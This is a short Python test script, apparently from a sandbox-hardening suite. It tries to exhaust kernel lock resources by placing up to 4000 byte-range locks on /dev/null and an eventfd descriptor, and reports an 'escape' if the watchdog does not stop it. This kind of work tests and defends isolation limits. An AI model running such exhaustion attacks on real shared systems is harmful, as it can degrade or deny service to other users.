# attack: locks what is no file of a disk: the device that all programs open, and the one inode of all event descriptors
# family: exhaustion
# walls: watchdog
# limits: --timeout 20s
# outcome: out_of_memory|failed|completed
# without: escaped
from attack import *
import fcntl
import struct
import time

WANTED = 4000
descriptors = [os.open("/dev/null", os.O_RDONLY), libc.eventfd(0, 0)]


def lock(descriptor, at):
    fcntl.fcntl(descriptor, fcntl.F_SETLK, struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, at, 1, 0))


count = 0
while count < WANTED and attempt(lambda: lock(descriptors[count % 2], count * 2)) is None:
    count += 1
# Time for a watch to look.
time.sleep(1)
if count == WANTED:
    escaped("%d locks of devices and events" % count)
held("%d locks" % count)
